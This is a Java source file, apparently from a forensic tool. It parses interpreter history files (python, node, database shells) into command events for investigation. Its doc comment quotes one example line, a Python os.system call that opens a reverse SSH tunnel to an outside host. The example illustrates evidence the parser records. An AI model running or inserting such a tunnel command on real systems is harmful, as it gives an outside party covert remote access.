package dev.offscript.readers.shell;

import dev.offscript.evidence.LineScanner;
import dev.offscript.evidence.Sample;
import dev.offscript.evidence.Source;
import dev.offscript.model.Actor;
import dev.offscript.model.Ecs;
import dev.offscript.model.Event;
import dev.offscript.model.EventKind;
import dev.offscript.model.EvidenceRef;
import dev.offscript.readers.EventSink;
import dev.offscript.readers.ReadOptions;
import dev.offscript.readers.Reader;
import dev.offscript.readers.text.Framing;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * Histories of programs that read orders of their own: python, node, psql, mysql, sqlite, redis.
 *
 * <pre>
 * import os
 * os.system("ssh -fN -R 7022:localhost:22 svc@203.0.113.9")
 * </pre>
 *
 * <p>One order a line, without times; libedit begins the file with {@code _HiStOrY_V2_} and writes
 * blanks as {@code \040}. The program is told by its words, see {@link InterpreterWords}. An order
 * that these programs hand on to a shell ({@code \!}, {@code .shell}, {@code system}) is a command
 * of a shell here.
 */
public final class InterpreterHistory implements Reader {

  private static final String LIBEDIT = "_HiStOrY_V2_";

  private static final List<String> COMMENTS = List.of("#", "//", "/*", "--", "\"\"\"", "'''");

  private final List<InterpreterWords> languages = InterpreterWords.load();

  @Override
  public String format() {
    return "interpreter-history";
  }

  @Override
  public double sniff(Sample sample) {
    if (Framing.of(sample).looksJson() || sample.text().indexOf('\0') >= 0) {
      return 0;
    }
    List<String> lines = sample.lines(200).stream().map(InterpreterHistory::plain).toList();
    boolean libedit = sample.text().startsWith(LIBEDIT);
    if (lines.isEmpty() || !libedit && isProgram(sample.text())) {
      return 0;
    }
    double best = 0;
    for (InterpreterWords language : languages) {
      best = Math.max(best, language.share(lines));
    }
    return libedit ? 0.9 : best >= 0.6 ? 0.4 + 0.3 * best : 0;
  }

  /**
   * Whether the text was written to be kept: its lines would be told as what somebody entered. No
   * history holds an empty line, since nothing was entered with it, and nobody begins with a
   * comment.
   */
  private static boolean isProgram(String text) {
    return text.contains("\n\n")
        || text.contains("\n\r\n")
        || COMMENTS.stream().anyMatch(text.stripLeading()::startsWith);
  }

  @Override
  public void read(Source source, ReadOptions options, EventSink sink) throws IOException {
    byte[] head;
    try (java.io.InputStream in = source.open()) {
      head = in.readNBytes(Sample.LIMIT);
    }
    List<String> beginning =
        new Sample(head, head.length < Sample.LIMIT)
            .lines(200).stream().map(InterpreterHistory::plain).toList();
    InterpreterWords language = languages.get(0);
    for (InterpreterWords other : languages) {
      language = other.share(beginning) > language.share(beginning) ? other : language;
    }
    Entry entry = new Entry(source, sink, language.name());
    try (LineScanner lines = new LineScanner(source.open(), Entry.LINE_BYTES)) {
      while (lines.next()) {
        long whole = lines.nextOffset() - lines.offset();
        if (lines.overlong()) {
          sink.rejected(
              lines.offset(), whole, "history line longer than " + Entry.LINE_BYTES + " bytes");
          continue;
        }
        sink.record(lines.offset(), whole);
        String order = plain(lines.text());
        if (!order.isBlank() && !order.equals(LIBEDIT)) {
          EvidenceRef ref =
              new EvidenceRef(source.unit(), lines.offset(), lines.length(), lines.line(), "");
          String shell = language.shellOrder(order);
          String text = shell.isEmpty() ? order : shell;
          Event.Builder event =
              Event.at(ref, 0)
                  .kind(EventKind.COMMAND)
                  .actor(Actor.UNKNOWN)
                  .time(entry.notAfterFile())
                  .text(text)
                  .put(Ecs.PROCESS_COMMAND_LINE, text)
                  .put(Ecs.OFFSCRIPT_HISTORY, language.name());
          sink.event(
              shell.isEmpty() ? language.interpreter().mark(event, order).build() : event.build());
        }
      }
    }
  }

  /** Undoes libedit's octal escapes. */
  private static String plain(String line) {
    if (line.indexOf("\\0") < 0 && line.indexOf("\\1") < 0) {
      return line;
    }
    byte[] bytes = line.getBytes(StandardCharsets.UTF_8);
    java.io.ByteArrayOutputStream plain = new java.io.ByteArrayOutputStream(bytes.length);
    for (int i = 0; i < bytes.length; i++) {
      if (bytes[i] == '\\' && i + 3 < bytes.length && octal(bytes, i + 1) >= 0) {
        plain.write(octal(bytes, i + 1));
        i += 3;
      } else {
        plain.write(bytes[i]);
      }
    }
    return plain.toString(StandardCharsets.UTF_8);
  }

  private static int octal(byte[] bytes, int at) {
    int value = 0;
    for (int i = at; i < at + 3; i++) {
      if (bytes[i] < '0' || bytes[i] > '7') {
        return -1;
      }
      value = value * 8 + bytes[i] - '0';
    }
    return value < 256 ? value : -1;
  }
}
